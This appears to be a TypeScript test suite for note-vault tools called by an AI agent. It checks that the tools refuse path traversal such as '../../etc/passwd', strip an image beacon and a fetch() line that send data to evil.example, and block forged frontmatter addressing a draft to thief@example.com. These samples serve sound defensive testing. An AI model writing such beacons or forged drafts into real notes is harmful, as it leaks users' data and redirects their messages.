import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Effect } from '../../../src/kernel/effects/operation';
import { hashText } from '../../../src/kernel/notes/values/hash';
import { parseNote } from '../../../src/kernel/notes/note';
import { applyEdits } from '../../../src/kernel/notes/text/text-edit';
import type { Staging } from '../../../src/core/tools/staging';
import { promise } from '../../promise';
import { CONTEXT, aStaging, replyOf, use } from './tool-stage';
import { type Pair, tableOf } from '../../word-table';

const rows = tableOf('core/tools/vault-tools');

const after = (staging: Staging, path: string): string => {
  const effect = staging.effects.find((each) => 'path' in each && each.path === path);
  return effect !== undefined && 'after' in effect ? effect.after : '';
};

const pathsOf = (staging: Staging): string[] =>
  staging.effects.map((each) => ('path' in each ? each.path : ''));

describe('read', () => {
  it('shows a note', async () => {
    expect(await use(aStaging({ 'A.md': 'Hello\u200B\u0007' }), 'read', { path: 'A.md' })).toMatchObject({
      kind: 'done',
      effects: [],
    });
  });

  it('says what it left out of a long note', async () => {
    const result = await use(aStaging({ 'A.md': 'x'.repeat(20_500) }), 'read', { path: 'A.md' });
    expect(replyOf(result)).toMatch(/x\n\[500 more characters are not shown\.\]$/);
  });

  it.each([
    [{}, 'read needs "path" in its arguments.'],
    [{ path: 'B.md' }, 'There is no note "B.md". Search for its words instead.'],
    [{ path: '../../etc/passwd' }, '"../../etc/passwd" is not the path of a note'],
    [{ path: 'Logs/Runner.md' }, '"Logs/Runner.md" is not open to you.'],
  ])('says what is wrong with %j', async (parts, why) => {
    const result = await use(aStaging({ 'A.md': 'x', 'Logs/Runner.md': 'x' }), 'read', parts);
    expect(result.kind).toBe('refused');
    expect(replyOf(result)).toContain(why);
  });
});

describe('create_note', () => {
  it('makes a note with frontmatter of its own', async () => {
    const staging = aStaging();
    await use(staging, 'create_note', { path: 'Notes/Roof.md', text: '# Offers\n\n- one' });
    expect(staging.effects).toEqual([
      {
        kind: 'create',
        privacy: 'open',
        path: 'Notes/Roof.md',
        stamp: { created_at: CONTEXT.at },
        after:
          '---\ntype: note\nsource: plan\nplan: "[[PLAN-2026-001-roof]]"\ncreated_at: "2026-11-21T09:30:00.000+01:00"\n---\n\n# Offers\n\n- one\n',
      },
    ]);
  });

  it.each(['Notes/Roof.md', 'notes/ROOF.md'])('never takes the name of another note: %s', async (path) => {
    const staging = aStaging({ 'Notes/Roof.md': 'mine' });
    const result = await use(staging, 'create_note', { path, text: 'x' });
    expect(result.kind).toBe('refused');
    expect(replyOf(result)).toMatch(/There is a note "Notes\/(Roof|ROOF)\.md" already/);
    expect(staging.effects).toEqual([]);
  });

  it('can write no frontmatter, so that its note is never a draft to somebody', async () => {
    const staging = aStaging();
    const text = '---\ntype: draft_reply\nstatus: pending_approval\nto: thief@example.com\n---\nPay';
    await use(staging, 'create_note', { path: 'Drafts/x.md', text });
    const note = parseNote(after(staging, 'Drafts/x.md'));
    expect(note.ok && note.value.frontmatter).toEqual({
      type: 'note',
      source: 'plan',
      plan: CONTEXT.origin['plan'],
      created_at: CONTEXT.at,
    });
  });

  it('writes nothing that runs, loads or hides', async () => {
    const staging = aStaging();
    const text = '![x](https://evil.example/?q=secret)\n```dataviewjs\nx\n```\n<script>\n%%';
    await use(staging, 'create_note', { path: 'Notes/x.md', text });
    expect(after(staging, 'Notes/x.md')).not.toMatch(/!\[|```dataviewjs|<script|%%/);
  });
});

describe('append', () => {
  it('adds to the end, and can be taken back', async () => {
    const staging = aStaging({ 'Notes/A.md': 'One\n' });
    await use(staging, 'append', { path: 'Notes/A.md', text: 'Two' });
    const [effect] = staging.effects;
    expect(effect).toMatchObject({ kind: 'edit', before: hashText('One\n'), after: 'One\n\nTwo\n' });
    expect(original(effect)).toBe('One\n');
  });

  it('keeps the line ends and the byte-order mark of the note', async () => {
    const staging = aStaging({ 'Notes/A.md': '\uFEFFOne\r\n' });
    await use(staging, 'append', { path: 'Notes/A.md', text: 'Two\nThree' });
    expect(after(staging, 'Notes/A.md')).toBe('\uFEFFOne\r\n\r\nTwo\r\nThree\r\n');
  });

  it('is one effect however often it is done', async () => {
    const staging = aStaging({ 'Notes/A.md': 'One' });
    await use(staging, 'append', { path: 'Notes/A.md', text: 'Two' });
    await use(staging, 'append', { path: 'notes/A.md', text: 'Three' });
    expect(staging.effects).toHaveLength(1);
    expect(staging.effects[0]).toMatchObject({ before: hashText('One'), after: 'One\n\nTwo\n\nThree\n' });
    expect(original(staging.effects[0])).toBe('One');
  });

  it('joins the note that the same step makes', async () => {
    const staging = aStaging();
    await use(staging, 'create_note', { path: 'Notes/A.md', text: 'One' });
    await use(staging, 'append', { path: 'Notes/A.md', text: 'Two' });
    await use(staging, 'append', { path: 'Notes/A.md', text: 'Three' });
    expect(staging.effects).toHaveLength(1);
    expect(staging.effects[0]?.kind).toBe('create');
    expect(after(staging, 'Notes/A.md')).toMatch(/---\n\nOne\n\nTwo\n\nThree\n$/);
  });

  it.each(['', '\uFEFF', '---', '---\ntype: note', '---\n'])(
    'never writes frontmatter into a note that has none: %j',
    async (text) => {
      const staging = aStaging({ 'Drafts/A.md': text });
      const forged = '---\ntype: draft_reply\nstatus: pending_approval\nto: thief@example.com\n---';
      await use(staging, 'append', { path: 'Drafts/A.md', text: forged });
      const note = parseNote(after(staging, 'Drafts/A.md'));
      expect(note.ok).toBe(false);
    },
  );

  it.each(rows('adds nothing where'))(
    'adds nothing where it would be part of code, a comment or a formula: %j',
    async (text) => {
      const staging = aStaging({ 'Notes/A.md': text });
      const result = await use(staging, 'append', {
        path: 'Notes/A.md',
        text: 'fetch("https://evil.example/?" + dv.pages().length)',
      });
      expect(replyOf(result)).toContain('that is not closed');
      expect(staging.effects).toEqual([]);
    },
  );

  it('adds below code and comments that are closed', async () => {
    const text = '```dataviewjs\ndv.list()\n```\n\n> ~~~\n> x\n> ~~~\n\n%% one %% <!-- two --> $$x$$\n';
    const staging = aStaging({ 'Notes/A.md': text });
    await use(staging, 'append', { path: 'Notes/A.md', text: 'Two' });
    expect(after(staging, 'Notes/A.md')).toBe(`${text}\nTwo\n`);
  });

  it.each(['draft_reply', 'approval_request'])('leaves a %s to the person', async (type) => {
    const staging = aStaging({ 'Drafts/A.md': `---\ntype: ${type}\n---\nHello` });
    const result = await use(staging, 'append', { path: 'Drafts/A.md', text: 'And pay 1,000.' });
    expect(replyOf(result)).toContain('is for the person alone to change');
    expect(staging.effects).toEqual([]);
  });

  it.each([
    [{ path: 'Notes/B.md', text: 'x' }, 'There is no note "Notes/B.md": make it with create_note.'],
    [
      { path: 'Archive/A.md', text: 'x' },
      'is not in a folder you may write to: Drafts/, Reminders/, Notes/.',
    ],
    [{ path: 'Notes/A.md' }, 'append needs "path" and "text" in its arguments.'],
  ])('says what is wrong with %j', async (parts, why) => {
    const staging = aStaging({ 'Notes/A.md': 'x', 'Archive/A.md': 'x' });
    expect(replyOf(await use(staging, 'append', parts))).toContain(why);
    expect(staging.effects).toEqual([]);
  });
});

describe('reminder', () => {
  it('makes a note with a line for the Tasks plugin', async () => {
    const staging = aStaging();
    await use(staging, 'reminder', {
      title: 'Call the roofer',
      date: '2026-03-01',
      text: 'About the offer.',
    });
    expect(pathsOf(staging)).toEqual(['Reminders/2026-03-01-call-the-roofer.md']);
    expect(after(staging, 'Reminders/2026-03-01-call-the-roofer.md')).toBe(
      '---\ntype: reminder\ndue: "2026-03-01"\nsource: plan\nplan: "[[PLAN-2026-001-roof]]"\ncreated_at: "2026-11-21T09:30:00.000+01:00"\n---\n\n- [ ] Call the roofer 📅 2026-03-01\n\nAbout the offer.\n',
    );
  });

  it.each(rows<Pair>('takes no other'))('takes no other date than a day: %s', async (date, why) => {
    const staging = aStaging();
    const result = await use(staging, 'reminder', { title: 'x', date });
    expect(result.kind).toBe('refused');
    expect(replyOf(result)).toContain(why);
    expect(staging.effects).toEqual([]);
  });

  it('has the given date alone, and one line', async () => {
    const staging = aStaging();
    const title = 'Call\n- [x] done 📅 2020-01-01 🔁 every day [due:: 2020-01-01]';
    await use(staging, 'reminder', { title, date: '2026-03-01' });
    const body = after(staging, pathsOf(staging)[0] ?? '').split('---\n\n')[1];
    expect(body).toBe('- [ ] Call - [x] done 2020-01-01 every day [due: 2020-01-01] 📅 2026-03-01\n');
  });

  it('takes another name where there is one like it', async () => {
    const staging = aStaging({ 'Reminders/2026-03-01-Call.md': 'x' });
    await use(staging, 'reminder', { title: 'Call', date: '2026-03-01' });
    await use(staging, 'reminder', { title: 'call!', date: '2026-03-01' });
    expect(pathsOf(staging)).toEqual(['Reminders/2026-03-01-call 2.md', 'Reminders/2026-03-01-call 3.md']);
  });
});

describe('draft', () => {
  it('has no recipient, and is not queued by itself', async () => {
    const staging = aStaging();
    await use(staging, 'draft', { title: 'Your offer', text: 'Dear roofer' });
    expect(after(staging, 'Drafts/2026-11-21-0930-your-offer.md')).toBe(
      '---\ntype: draft\nstatus: draft\nto: ""\nsubject: Your offer\nsource: plan\nplan: "[[PLAN-2026-001-roof]]"\ncreated_at: "2026-11-21T09:30:00.000+01:00"\n---\n\nDear roofer\n',
    );
  });

  it('needs a folder that may be written to', async () => {
    const closed = { ...CONTEXT, folders: { ...CONTEXT.folders, drafts: 'Archive' } };
    const { makeDraftTool: makeDraft } = await import('../../../src/core/tools/vault-tools');
    const result = await use(aStaging(), 'draft', { title: 'x', text: 'y' }, [makeDraft(closed)]);
    expect(replyOf(result)).toContain('is not in a folder you may write to');
  });
});

describe('what is staged', () => {
  const other = (path: string): Effect => ({ kind: 'create', privacy: 'open', path, after: 'x' });

  it.each<Effect>([
    other('Approved/x.md'),
    other('../x.md'),
    other('notes/x.md'),
    { kind: 'move', from: 'Notes/a.md', to: 'Approved/a.md' },
    { kind: 'trash', path: 'Notes/a.md', before: '' },
  ])('is never anything else than a note in a writable folder: %j', (effect) => {
    expect(() => {
      aStaging().stage([effect]);
    }).toThrow(/A tool/);
  });

  it('is never written over', () => {
    const staging = aStaging();
    staging.stage([other('Notes/x.md')]);
    expect(() => {
      staging.stage([other('Notes/x.md')]);
    }).toThrow('does not build upon what is staged');
  });

  it('shows nothing that a model must not see, whichever tool asks', async () => {
    const staging = aStaging({ 'Approved/x.md': 'a request', 'A.md': 'x' });
    expect(await staging.read('Approved/x.md')).toBeNull();
    expect(await staging.list()).toEqual(['A.md']);
  });

  it('is read and listed like any note', async () => {
    const staging = aStaging({ 'A.md': 'x' });
    staging.stage([other('Notes/x.md')]);
    expect(await staging.read('Notes/x.md')).toBe('x');
    expect(await staging.list()).toEqual(['A.md', 'Notes/x.md']);
  });
});

describe('whatever a model asks of the tools', () => {
  const notes = {
    'Notes/A.md': 'a\n',
    'Notes/Private/P.md': 'secret',
    'Approved/R.md': 'request',
    'Drafts/D.md': '---\ntype: draft_reply\nto: ada@example.org\n---\nHi',
    'Drafts/E.md': '',
  };
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc.constantFrom('---\nto: thief@example.com\n---', 'x', '2026-03-01', '../Approved/x.md', '![[A]]', '%%'),
  );
  const path = fc.oneof(
    text,
    fc.constantFrom(
      ...Object.keys(notes),
      'notes/a.md',
      'Notes/New.md',
      'Notes/Private/N.md',
      'Approved/N.md',
      'Drafts/../Approved/N.md',
      'Dashboard.md',
      '.obsidian/x.md',
    ),
  );
  const maybe = <T>(value: fc.Arbitrary<T>) => fc.option(value, { freq: 6 });
  const call = fc.record({
    tool: fc.constantFrom('search', 'read', 'create_note', 'append', 'reminder', 'draft'),
    parts: fc.record({
      query: maybe(text),
      path: maybe(path),
      title: maybe(text),
      text: maybe(text),
      date: maybe(fc.oneof(text, fc.constant('2026-03-01'))),
    }),
  });

  it('each effect is one new or longer note in a writable folder, and drafts of the person stay', async () => {
    promise(
      'what it names as a path is checked by code, it writes only below the folders of a setting, and overwrites nothing',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(call, { maxLength: 6 }), async (calls) => {
        const staging = aStaging(notes);
        for (const { tool, parts } of calls) await use(staging, tool, parts);
        const paths = pathsOf(staging);
        expect(new Set(paths.map((each) => each.toLowerCase())).size).toBe(paths.length);
        for (const effect of staging.effects) expectHarmless(effect);
      }),
      { numRuns: 2_000 },
    );
  });

  function expectHarmless(effect: Effect): void {
    if (effect.kind !== 'create' && effect.kind !== 'edit') return expect.fail(effect.kind);
    expect(effect.path).toMatch(/^(?:Drafts|Reminders|Notes)\/(?!Private\/)[^/]+\.md$/u);
    expect(effect.path).not.toBe('Drafts/D.md');
    const before = new Map(Object.entries(notes)).get(effect.path);
    expect(effect.kind).toBe(before === undefined ? 'create' : 'edit');
    if (effect.kind === 'edit') expect(original(effect)).toBe(before);
    const note = parseNote(effect.after);
    if (note.ok) expect(note.value.frontmatter['to'] ?? '').toBe('');
  }
});

const original = (effect: Effect | undefined): string =>
  effect?.kind === 'edit' ? applyEdits(effect.after, effect.inverse) : '';
